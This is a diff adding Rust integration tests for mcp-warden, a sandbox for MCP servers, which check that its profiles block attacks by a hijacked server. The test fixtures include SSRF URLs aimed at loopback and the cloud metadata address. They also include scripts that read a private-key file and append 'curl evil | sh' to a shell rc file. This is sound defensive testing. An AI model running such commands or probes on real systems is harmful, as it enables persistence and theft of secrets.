@@ -14,6 +14,8 @@ struct Session {
     tools: Vec<String>,
     is_error: bool,
     text: String,
+    /// The launcher's and the server's stderr (the broker reports refusals there).
+    stderr: String,
 }
 
 fn need(path: PathBuf) -> PathBuf {
@@ -45,6 +47,7 @@ fn session(who: Who, tool: &str, arguments: &str, warden_args: &[&str], env: &[(
         tools: v["tools"].as_array().unwrap().iter().map(|t| t.as_str().unwrap().to_string()).collect(),
         is_error: v["is_error"].as_bool().unwrap(),
         text: v["text"].as_str().unwrap().to_string(),
+        stderr: o.stderr,
     }
 }
 
@@ -318,6 +321,391 @@ fn memory_sequential_thinking_git_and_sqlite_run_under_their_profiles() {
         );
         let _ = dbdir;
     }
+}
+
+/// A process that is killed when the test ends, however it ends.
+struct Background(std::process::Child);
+
+impl Drop for Background {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Adds `addr`/32 to the loopback interface (idempotent): a stand-in for a public address, since
+/// this machine has no internet. TEST-NET-2 (198.51.100.0/24) is documentation space, in no
+/// profile's `deny` list.
+fn test_address(addr: &str) {
+    let shown = Command::new("/usr/sbin/ip").args(["-o", "addr", "show", "dev", "lo"]).output().unwrap();
+    if !String::from_utf8_lossy(&shown.stdout).contains(&format!(" {addr}/")) {
+        let st =
+            Command::new("/usr/sbin/ip").args(["addr", "add", &format!("{addr}/32"), "dev", "lo"]).status().unwrap();
+        assert!(st.success(), "ip addr add {addr}");
+    }
+}
+
+/// Waits until `addr` accepts TCP connections.
+fn wait_listening(addr: &str) {
+    let deadline = std::time::Instant::now() + Duration::from_secs(20);
+    while std::net::TcpStream::connect(addr).is_err() {
+        assert!(std::time::Instant::now() < deadline, "nothing listens on {addr}");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+fn http_server(addr: &str, port: u16, dir: &std::path::Path) -> Background {
+    let child = Command::new("/usr/bin/python3")
+        .args(["-m", "http.server", &port.to_string(), "--bind", addr, "--directory"])
+        .arg(dir)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_listening(&format!("{addr}:{port}"));
+    Background(child)
+}
+
+/// The official fetch server with its own private-address check switched off
+/// (`--allow-private-ips`, as a server bug or a hostile fork would have it): the page on a public
+/// address is fetched; the loopback service, the cloud metadata address and the IPv4-mapped form
+/// of loopback are refused by mcp-warden's network broker, not by the server.
+#[test]
+fn fetch_server_reaches_public_addresses_only() {
+    if !is_root() {
+        return skip("fetch_server_reaches_public_addresses_only", "needs root to add a test address and bind port 80");
+    }
+    let venv = need(test_env().join("venv"));
+    let s = Scratch::new(Who::Root);
+    let site = s.mkdir("site", Who::Root);
+    std::fs::write(site.join("index.html"), "<html><head><title>T</title></head><body><h1>Warden test page</h1><p>The quick brown fox jumps over the lazy dog.</p></body></html>").unwrap();
+    std::fs::write(site.join("secret.html"), "<html><body><p>internal admin token 7f3e</p></body></html>").unwrap();
+    test_address("198.51.100.7");
+    let _public = http_server("198.51.100.7", 80, &site);
+    let internal = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = internal.local_addr().unwrap().port();
+    drop(internal);
+    let _internal = http_server("127.0.0.1", port, &site);
+
+    let python = venv.join("bin/python");
+    let args = [
+        "run",
+        "--profile",
+        "fetch",
+        "--",
+        python.to_str().unwrap(),
+        "-m",
+        "mcp_server_fetch",
+        "--ignore-robots-txt",
+        "--allow-private-ips",
+    ];
+    for who in Who::all() {
+        let ok = session(who, "fetch", r#"{"url": "http://198.51.100.7/index.html"}"#, &args, &[]);
+        assert!(!ok.is_error && ok.text.contains("Warden test page"), "{who:?}: {}\n{}", ok.text, ok.stderr);
+        assert_eq!(ok.tools, ["fetch"]);
+        let attacks = [
+            (format!("http://127.0.0.1:{port}/secret.html"), "127.0.0.1 is in the denied range 127.0.0.0/8"),
+            (format!("http://[::ffff:127.0.0.1]:{port}/secret.html"), "127.0.0.1 is in the denied range 127.0.0.0/8"),
+            (
+                "http://169.254.169.254/latest/meta-data/".to_string(),
+                "169.254.169.254 is in the denied range 169.254.0.0/16",
+            ),
+            (format!("http://localhost:{port}/secret.html"), "is in the denied range"),
+        ];
+        for (url, refusal) in attacks {
+            let r = session(who, "fetch", &format!(r#"{{"url": "{url}"}}"#), &args, &[]);
+            assert!(r.is_error && !r.text.contains("7f3e"), "{who:?}: {url} was fetched: {}", r.text);
+            assert!(
+                r.stderr.contains("mcp-warden: network: refused connect") && r.stderr.contains(refusal),
+                "{who:?}: {url}: not refused by the broker:\n{}",
+                r.stderr
+            );
+        }
+    }
+}
+
+/// Adds a line to /etc/hosts for the test and removes it afterwards.
+struct HostsEntry(String);
+
+impl HostsEntry {
+    fn add(line: &str) -> HostsEntry {
+        let hosts = std::fs::read_to_string("/etc/hosts").unwrap();
+        if !hosts.lines().any(|l| l == line) {
+            let mut f = std::fs::OpenOptions::new().append(true).open("/etc/hosts").unwrap();
+            use std::io::Write;
+            writeln!(f, "{line}").unwrap();
+        }
+        HostsEntry(line.to_string())
+    }
+}
+
+impl Drop for HostsEntry {
+    fn drop(&mut self) {
+        if let Ok(hosts) = std::fs::read_to_string("/etc/hosts") {
+            let kept: String = hosts.lines().filter(|l| *l != self.0).map(|l| format!("{l}\n")).collect();
+            let _ = std::fs::write("/etc/hosts", kept);
+        }
+    }
+}
+
+/// The official GitHub server under the `github` profile. This machine has no internet, so
+/// api.github.com is a local HTTPS stand-in (tests/clients/fake_github.py) on a test address,
+/// named in /etc/hosts and trusted through NODE_EXTRA_CA_CERTS: the real server code runs against
+/// it. The token arrives by name from the client's environment. A process under the same profile
+/// (what a hijacked server is) reaches api.github.com and nothing else.
+#[test]
+fn github_server_reaches_api_github_com_only() {
+    if !is_root() {
+        return skip(
+            "github_server_reaches_api_github_com_only",
+            "needs root to add a test address, /etc/hosts entry and port 443",
+        );
+    }
+    let server = need(node_dir().join("node_modules/@modelcontextprotocol/server-github/dist/index.js"));
+    let s = Scratch::new(Who::Root);
+    let pki = s.mkdir("pki", Who::Root);
+    let openssl = |args: &[&str]| {
+        let o = Command::new("/usr/bin/openssl").args(args).current_dir(&pki).output().unwrap();
+        assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
+    };
+    openssl(&[
+        "req",
+        "-x509",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        "ca.key",
+        "-out",
+        "ca.pem",
+        "-days",
+        "2",
+        "-subj",
+        "/CN=mcp-warden test CA",
+    ]);
+    openssl(&[
+        "req",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        "srv.key",
+        "-out",
+        "srv.csr",
+        "-subj",
+        "/CN=api.github.com",
+    ]);
+    std::fs::write(pki.join("ext"), "subjectAltName=DNS:api.github.com\n").unwrap();
+    openssl(&[
+        "x509",
+        "-req",
+        "-in",
+        "srv.csr",
+        "-CA",
+        "ca.pem",
+        "-CAkey",
+        "ca.key",
+        "-CAcreateserial",
+        "-out",
+        "srv.pem",
+        "-days",
+        "2",
+        "-extfile",
+        "ext",
+    ]);
+    let ca = pki.join("ca.pem");
+    chown_to(&ca, Who::User);
+
+    test_address("198.51.100.8");
+    test_address("198.51.100.7");
+    let _hosts = HostsEntry::add("198.51.100.8 api.github.com # mcp-warden test");
+    let fake = need(test_env().join("clients/fake_github.py"));
+    let ready = s.join("ready");
+    let child = Command::new("/usr/bin/python3")
+        .arg(&fake)
+        .args(["198.51.100.8", "srv.pem", "srv.key"])
+        .arg(&ready)
+        .current_dir(&pki)
+        .spawn()
+        .unwrap();
+    let _fake = Background(child);
+    wait_listening("198.51.100.8:443");
+    let other = std::net::TcpListener::bind("198.51.100.7:443").unwrap();
+
+    let probe = s.file("probe.js", r#"
+const net = require('net');
+const tryc = (host, port) => new Promise(r => {
+  const s = net.connect({ host, port });
+  s.on('connect', () => { console.log(`${host}:${port} connected`); s.destroy(); r(); });
+  s.on('error', e => { console.log(`${host}:${port} ${e.code}`); r(); });
+});
+(async () => { for (const [h, p] of [['api.github.com', 443], ['198.51.100.7', 443], ['198.51.100.8', 80], ['127.0.0.1', 443]]) await tryc(h, p); })();
+"#, Who::Root);
+    for who in Who::all() {
+        let env =
+            [("GITHUB_PERSONAL_ACCESS_TOKEN", "ghp_wardentest123"), ("NODE_EXTRA_CA_CERTS", ca.to_str().unwrap())];
+        let args = [
+            "run",
+            "--profile",
+            "github",
+            "--allow-read",
+            ca.to_str().unwrap(),
+            "--",
+            "node",
+            server.to_str().unwrap(),
+        ];
+        let r = session(who, "search_repositories", r#"{"query": "warden"}"#, &args, &env);
+        assert!(!r.is_error && r.text.contains("octo/warden-test"), "{who:?}: {}\n{}", r.text, r.stderr);
+        assert!(r.text.contains("auth=Bearer ghp_wardentest123"), "{who:?}: the token did not arrive: {}", r.text);
+        assert!(r.tools.iter().any(|t| t == "create_issue"));
+
+        let o = Sandbox::new(who)
+            .profile("github")
+            .grant("--allow-read", s.path())
+            .exec(&["node".as_ref(), probe.as_os_str()]);
+        assert!(o.stdout.contains("api.github.com:443 connected"), "{who:?}: control failed\n{}", o.describe());
+        for denied in ["198.51.100.7:443 EACCES", "198.51.100.8:80 EACCES", "127.0.0.1:443 EACCES"] {
+            assert!(o.stdout.contains(denied), "{who:?}: expected `{denied}`\n{}", o.describe());
+        }
+    }
+    drop(other);
+}
+
+/// `npx -y PACKAGE` and `uvx PACKAGE`, installed once (by `cargo xtask setup`, into caches of the
+/// test environment), run hardened without npm, uv or the network: mcp-warden runs the installed
+/// copy directly. A package that was never installed is refused with the install-phase hint.
+#[test]
+fn npx_and_uvx_servers_run_from_their_installed_copies() {
+    let env_dir = test_env();
+    let npm_cache = need(env_dir.join("npm-cache"));
+    let uv_cache = need(env_dir.join("uv-cache"));
+    let caches = [("npm_config_cache", npm_cache.to_str().unwrap()), ("UV_CACHE_DIR", uv_cache.to_str().unwrap())];
+    for who in Who::all() {
+        let step = r#"{"thought": "t", "nextThoughtNeeded": false, "thoughtNumber": 1, "totalThoughts": 1}"#;
+        let args = [
+            "run",
+            "--profile",
+            "sequential-thinking",
+            "--",
+            "npx",
+            "-y",
+            "@modelcontextprotocol/server-sequential-thinking@2026.8.31",
+        ];
+        let t = session(who, "sequentialthinking", step, &args, &caches);
+        assert!(!t.is_error, "{who:?}: {}\n{}", t.text, t.stderr);
+
+        let args = ["run", "--profile", "time", "--", "uvx", "mcp-server-time==2026.10.19"];
+        let t = session(who, "get_current_time", r#"{"timezone": "Asia/Tokyo"}"#, &args, &caches);
+        assert!(!t.is_error && t.text.contains("Asia/Tokyo"), "{who:?}: {}\n{}", t.text, t.stderr);
+    }
+    let mut c = warden_as(
+        Who::current(),
+        &[
+            "run".as_ref(),
+            "--profile".as_ref(),
+            "memory".as_ref(),
+            "--".as_ref(),
+            "npx".as_ref(),
+            "-y".as_ref(),
+            "@modelcontextprotocol/server-memory@1.0.0".as_ref(),
+        ],
+    );
+    c.env("npm_config_cache", &npm_cache);
+    let o = run(c, None, Duration::from_secs(30));
+    assert_eq!(o.code(), Some(125), "{}", o.describe());
+    assert!(
+        o.stderr.contains("is not installed in the npx cache") && o.stderr.contains("hint: install the package once"),
+        "{}",
+        o.describe()
+    );
+}
+
+/// (profile, runtime, extra server arguments that carry the profile's grants, environment)
+type Case<'a> = (&'a str, &'a str, Vec<&'a str>, Vec<(&'a str, &'a str)>);
+
+/// What a hijacked server could do under each shipped profile: the same attacks (read a secret
+/// the user can read, append to a shell rc file, reach a local service) from inside the runtime
+/// each profile is for, started exactly as its server would be. Every one fails; the control,
+/// reading the profile's own grant, succeeds.
+#[test]
+fn every_shipped_profile_contains_a_hijacked_server() {
+    let node_attack = r#"
+const fs = require('fs'), net = require('net');
+const [secret, rc, port, own] = process.argv.slice(2);
+const t = (name, f) => { try { f(); console.log(name + ' ALLOWED'); } catch (e) { console.log(name + ' ' + e.code); } };
+t('own', () => fs.readFileSync(own));
+t('secret', () => fs.readFileSync(secret));
+t('rc', () => fs.appendFileSync(rc, 'curl evil | sh\n'));
+const s = net.connect({ host: '127.0.0.1', port: +port });
+s.on('connect', () => { console.log('net ALLOWED'); process.exit(0); });
+s.on('error', e => { console.log('net ' + e.code); process.exit(0); });
+"#;
+    let py_attack = r#"
+import socket, sys
+secret, rc, port, own = sys.argv[1:5]
+def t(name, f):
+    try:
+        f(); print(name, "ALLOWED")
+    except OSError as e:
+        print(name, e.errno)
+t("own", lambda: open(own, "rb").read())
+t("secret", lambda: open(secret).read())
+t("rc", lambda: open(rc, "a").write("curl evil | sh\n"))
+t("net", lambda: socket.create_connection(("127.0.0.1", int(port)), timeout=5))
+"#;
+    let python = need(test_env().join("venv/bin/python"));
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port().to_string();
+    for who in Who::all() {
+        let s = Scratch::new(who);
+        let code = s.mkdir("code", who);
+        let node_js = s.file("code/attack.js", node_attack, who);
+        let py = s.file("code/attack.py", py_attack, who);
+        let secret = s.file("id_ed25519", "PRIVATE KEY\n", who);
+        let rc = s.file("bashrc", "# rc\n", who);
+        let data = s.mkdir("data", who);
+        let own = s.file("data/own.txt", "mine\n", who);
+        let memory = s.file("data/graph.jsonl", "", who);
+        let db = s.file("data/app.db", "", who);
+        let mut init = command_as(who, "/usr/bin/git");
+        init.args(["init", "-q"]).arg(&data).env("HOME", &data);
+        assert!(run(init, None, Duration::from_secs(30)).status.success());
+        let targets = [secret.to_str().unwrap(), rc.to_str().unwrap(), &port, own.to_str().unwrap()];
+        // (profile, interpreter, extra server arguments that carry the profile's grants, env)
+        let cases: Vec<Case> = vec![
+            ("everything", "node", vec![], vec![]),
+            ("sequential-thinking", "node", vec![], vec![]),
+            ("memory", "node", vec![], vec![("MEMORY_FILE_PATH", memory.to_str().unwrap())]),
+            ("filesystem", "node", vec![data.to_str().unwrap()], vec![]),
+            ("github", "node", vec![], vec![]),
+            ("time", "python", vec![], vec![]),
+            ("git", "python", vec!["--repository", data.to_str().unwrap()], vec![]),
+            ("sqlite", "python", vec!["--db-path", db.to_str().unwrap()], vec![]),
+            ("fetch", "python", vec![], vec![]),
+        ];
+        for (profile, runtime, extra, env) in cases {
+            let (program, script) =
+                if runtime == "node" { ("node", &node_js) } else { (python.to_str().unwrap(), &py) };
+            let mut sb = Sandbox::new(who).profile(profile).grant("--allow-read", &code);
+            if ["everything", "sequential-thinking", "github", "time", "fetch"].contains(&profile) {
+                sb = sb.grant("--allow-read", &data);
+            }
+            for (k, v) in &env {
+                sb = sb.env(k, v);
+            }
+            let mut cmd: Vec<&std::ffi::OsStr> = vec![program.as_ref(), script.as_os_str()];
+            cmd.extend(targets.iter().map(|t| std::ffi::OsStr::new(*t)));
+            cmd.extend(extra.iter().map(std::ffi::OsStr::new));
+            let o = sb.exec(&cmd);
+            let lines: Vec<&str> = o.stdout.lines().collect();
+            assert_eq!(lines.first().copied(), Some("own ALLOWED"), "{who:?} {profile}: control\n{}", o.describe());
+            assert_eq!(lines.len(), 4, "{who:?} {profile}\n{}", o.describe());
+            for line in &lines[1..] {
+                assert!(!line.ends_with("ALLOWED"), "{who:?} {profile}: {line}\n{}", o.describe());
+            }
+        }
+    }
+    drop(listener);
 }
 
 /// `mcp-warden wrap`: preview, write with a backup, idempotence, undo; and the wrapped entry
